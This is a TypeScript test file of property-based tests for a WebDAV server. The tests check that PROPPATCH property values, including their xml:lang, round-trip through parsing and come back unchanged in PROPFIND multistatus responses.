describe('PROPPATCH value round trip (property-based)', () => {
  it('valueXml reads back as the value the client wrote, with its xml:lang', () => {
    fc.assert(
      fc.property(propertyArb, (p) => {
        const [op] = parseProppatch(proppatchBody(p, p.content.map(writeGen).join('')));
        expect(op).toMatchObject({ op: 'set', name: p.name, lang: p.lang });
        if (op?.op !== 'set') return;
        expect(readContent(op.valueXml)).toEqual(expectedInfo(p.content));
      }),
      { numRuns: 300 },
    );
  });

  it('valueXml is a fixpoint: sent again in another context, it parses to itself', () => {
    fc.assert(
      fc.property(propertyArb, (p) => {
        const [first] = parseProppatch(proppatchBody(p, p.content.map(writeGen).join('')));
        if (first?.op !== 'set') throw new Error('expected set');
        const [second] = parseProppatch(proppatchBody(p, first.valueXml));
        expect(second).toEqual(first);
      }),
      { numRuns: 300 },
    );
  });

  it('a PROPFIND multistatus shows the client the value it wrote', () => {
    fc.assert(
      fc.property(propertyArb, (p) => {
        const [op] = parseProppatch(proppatchBody(p, p.content.map(writeGen).join('')));
        if (op?.op !== 'set') throw new Error('expected set');
        const w = new MultistatusWriter();
        const other = { name: { ns: 'urn:other', local: 'q' }, valueXml: '<D:href>/x</D:href>' };
        const xml =
          w.start() +
          w.response('/dav/f', [{ status: 200, props: [other, { name: op.name, valueXml: op.valueXml, lang: op.lang }] }]) +
          w.end();
        const doc = readXml(xml);
        const prop = findElement(doc, DAV_NS, 'prop')!;
        const element = prop.children.filter((c) => typeof c !== 'string')[1]!;
        if (typeof element === 'string') throw new Error('expected an element');
        expect([element.ns, element.local]).toEqual([op.name.ns, op.name.local]);
        const langs = element.attrs.filter(([ns, local]) => ns === XML_NS && local === 'lang').map((a) => a[3]);
        expect(langs).toEqual(p.lang === null ? [] : [p.lang]);
        expect(element.children).toEqual(expectedInfo(p.content));
      }),
      { numRuns: 300 },
    );
  });
});
